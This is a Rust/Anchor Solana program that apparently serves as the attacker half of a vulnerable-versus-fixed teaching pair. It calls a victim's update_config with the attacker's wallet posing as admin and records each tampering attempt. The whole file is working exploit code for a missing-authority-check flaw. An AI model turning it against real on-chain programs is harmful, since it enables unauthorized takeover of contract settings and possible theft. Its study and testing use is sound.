#![allow(unexpected_cfgs)]
use anchor_lang::prelude::*;
use anchor_lang::solana_program::instruction::{AccountMeta, Instruction};
use anchor_lang::solana_program::program::invoke;
use anchor_lang::InstructionData;

declare_id!("P3r3Bm64GRLoAvjpzK5EjXQWggkgihZCzUFn7NEu1NR");

pub const ATTACK_LOG_SEED: &[u8] = b"attack-log";

/// # Config Admin Attacker Program
///
/// Calls a victim's `update_config` with the attacker's own wallet in the
/// `admin` slot. The victim only sees a valid signer:
/// - **Vulnerable version**: the write lands, `value` becomes the attacker's
///   number while `admin` still names the real administrator.
/// - **Fixed version**: the admin gate compares the signer with the stored
///   admin and the whole transaction fails with `Unauthorized`.
#[program]
pub mod config_admin_attacker {
    use super::*;

    /// Initializes the log that records this attacker's attempts.
    pub fn initialize_attack_log(ctx: Context<InitializeAttackLog>) -> Result<()> {
        let attack_log = &mut ctx.accounts.attack_log;
        attack_log.attacker = ctx.accounts.attacker.key();
        attack_log.target_config = Pubkey::default();
        attack_log.malicious_value = 0;
        attack_log.timestamp = 0;

        msg!("Attack log initialized for: {}", ctx.accounts.attacker.key());
        Ok(())
    }

    /// Signs `update_config(malicious_value)` against the victim. If the victim
    /// rejects the signer, the CPI error aborts this instruction too and the
    /// log keeps its previous contents.
    pub fn exploit_config(ctx: Context<ExploitContext>, malicious_value: u8) -> Result<()> {
        msg!("Attacker {} targeting config {}", ctx.accounts.attacker.key(), ctx.accounts.target_config.key());

        let ix = exploit_instruction(
            ctx.accounts.victim_program.key(),
            ctx.accounts.attacker.key(),
            ctx.accounts.target_config.key(),
            malicious_value,
        );
        invoke(
            &ix,
            &[
                ctx.accounts.attacker.to_account_info(),
                ctx.accounts.target_config.to_account_info(),
                ctx.accounts.victim_program.to_account_info(),
            ],
        )?;

        let attack_log = &mut ctx.accounts.attack_log;
        attack_log.target_config = ctx.accounts.target_config.key();
        attack_log.malicious_value = malicious_value;
        attack_log.timestamp = Clock::get()?.unix_timestamp;

        msg!("Victim accepted value {}", malicious_value);
        Ok(())
    }
}

/// Builds the victim's `update_config` call with `attacker` posing as admin.
///
/// Both config-admin programs share the instruction name and account order,
/// so the same bytes are valid against either one.
pub fn exploit_instruction(victim_program: Pubkey, attacker: Pubkey, config: Pubkey, value: u8) -> Instruction {
    Instruction {
        program_id: victim_program,
        accounts: vec![AccountMeta::new_readonly(attacker, true), AccountMeta::new(config, false)],
        data: config_admin_vuln::instruction::UpdateConfig { value }.data(),
    }
}

#[derive(Accounts)]
pub struct ExploitContext<'info> {
    /// CHECK: the victim's config account. Left to the victim program to
    /// validate, since the point is to see whether it does.
    #[account(mut)]
    pub target_config: UncheckedAccount<'info>,

    /// CHECK: either config-admin program; only required to be executable.
    #[account(executable)]
    pub victim_program: UncheckedAccount<'info>,

    #[account(
        mut,
        seeds = [ATTACK_LOG_SEED, attacker.key().as_ref()],
        bump
    )]
    pub attack_log: Account<'info, AttackLog>,

    /// ATTACK VECTOR: our own wallet, passed where the victim expects `admin`.
    pub attacker: Signer<'info>,
}

#[derive(Accounts)]
pub struct InitializeAttackLog<'info> {
    #[account(
        init,
        payer = attacker,
        space = 8 + AttackLog::INIT_SPACE,
        seeds = [ATTACK_LOG_SEED, attacker.key().as_ref()],
        bump
    )]
    pub attack_log: Account<'info, AttackLog>,

    #[account(mut)]
    pub attacker: Signer<'info>,

    pub system_program: Program<'info, System>,
}

/// Last successful tampering by this attacker.
#[account]
#[derive(InitSpace)]
pub struct AttackLog {
    pub attacker: Pubkey,
    pub target_config: Pubkey,
    pub malicious_value: u8,
    pub timestamp: i64,
}
